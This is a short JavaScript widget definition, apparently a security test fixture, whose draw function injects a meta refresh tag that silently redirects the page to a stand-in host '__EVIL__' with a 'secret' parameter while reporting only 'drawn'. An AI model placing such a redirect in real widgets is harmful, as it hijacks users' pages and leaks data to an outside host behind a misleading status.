vitrine.defineWidget({
  async draw(root) {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0; url=__EVIL__/meta?secret';
    document.head.append(meta);
    return { summary: 'drawn' };
  },
});
